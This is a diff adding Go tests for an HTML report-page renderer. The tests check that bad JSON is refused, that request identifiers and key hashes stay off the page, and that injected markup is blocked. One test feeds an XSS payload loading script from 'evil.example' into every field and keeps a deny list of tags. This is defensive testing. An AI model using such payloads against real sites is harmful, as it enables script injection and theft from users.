@@ -1,0 +1,84 @@
+package reportpage
+
+import (
+	"fmt"
+	"os"
+	"strings"
+	"testing"
+)
+
+func TestRefused(t *testing.T) {
+	for _, c := range []struct {
+		name, text, want string
+		render           func([]byte) ([]byte, error)
+	}{
+		{"no JSON", `{"format"`, "read the report: unexpected end of JSON input", Render},
+		{"another type", `{"format": "one"}`, "cannot unmarshal string", Render},
+		{"nothing", `{}`, "it is not the report of a run", Render},
+		{"newer", `{"format": 2, "operation": "enrichment"}`, "format 2 is of a newer version of leadetl; this one reads 1", Render},
+		{"no manifest", `{"format": 1}`, "it is not the manifest of a dataset", RenderManifest},
+		{"newer manifest", `{"format": 3, "operation": "enrichment"}`, "format 3 is of a newer version", RenderManifest},
+	} {
+		if page, err := c.render([]byte(c.text)); page != nil || err == nil || !strings.Contains(err.Error(), c.want) {
+			t.Errorf("%s: %v, want %q", c.name, err, c.want)
+		}
+	}
+}
+
+// TestOfAnOlderVersion: what is not there is not shown, and a reason that is
+// not known is.
+func TestOfAnOlderVersion(t *testing.T) {
+	page, err := Render([]byte(`{"format": 1, "operation": "enrichment", "stop": {"reason": "moon_phase"}, "totals": {"rows": 2, "matched": 2}}`))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for text, want := range map[string]bool{"Stopped: moon phase": true, "Started": false, "0001": false, "Over time": false, `id="calls"`: false, "matched 2 (100.0%)": true} {
+		if strings.Contains(string(page), text) != want {
+			t.Errorf("%q is on the page: %v, want %v", text, !want, want)
+		}
+	}
+}
+
+// TestCanary: of what a report holds of calls, the page shows no word that
+// tells one from another.
+func TestCanary(t *testing.T) {
+	data, err := os.ReadFile("testdata/remote.json")
+	if err != nil {
+		t.Fatal(err)
+	}
+	page, err := Render(data)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if want := `"key_hash"`; !strings.Contains(string(data), want) {
+		t.Fatalf("no %s in the report: it lists no unknown call", want)
+	}
+	for line := range strings.Lines(string(data)) {
+		name, value, _ := strings.Cut(strings.TrimSpace(line), ": ")
+		switch name {
+		case `"key_hash"`, `"idempotency_key"`, `"request_id"`:
+			if word := strings.Trim(value, `",`); strings.Contains(string(page), word) {
+				t.Errorf("the page shows the %s %s", name, word)
+			}
+		}
+	}
+}
+
+// TestNothingIsLoaded and nothing is HTML that came from a report.
+func TestNothingIsLoaded(t *testing.T) {
+	evil := `"><script src=http://evil.example/x.js></script><img src=http://evil.example/x>`
+	page, err := Render(fmt.Appendf(nil, `{"format": 1, "operation": %[1]q, "output": %[1]q, "program": %[1]q, "job_id": %[1]q, "stop": {"reason": %[1]q, "detail": %[1]q},
+		"inputs": [{"uri": %[1]q, "bytes": 1}], "files": [{"name": %[1]q, "sha256": %[1]q}], "totals": {"rows": 3, "matched": 1, "no_match": 1, "rejected": 1, "reasons": {"no_match": {%[1]q: 1}, "rejected": {%[1]q: 1}}},
+		"service": {"name": %[1]q, "calls": {"asked": 2, "by_class": {%[1]q: 2}, "retries": {%[1]q: 1}}, "waits_seconds": {%[1]q: 1}}}`, evil))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, never := range []string{"<script", "<img", "<link rel=\"stylesheet", "@import", "url("} {
+		if strings.Contains(strings.ToLower(string(page)), never) {
+			t.Errorf("%s is on the page", never)
+		}
+	}
+	if !strings.Contains(string(page), `content="default-src 'none';`) {
+		t.Error("the page has no policy that forbids to load anything")
+	}
+}
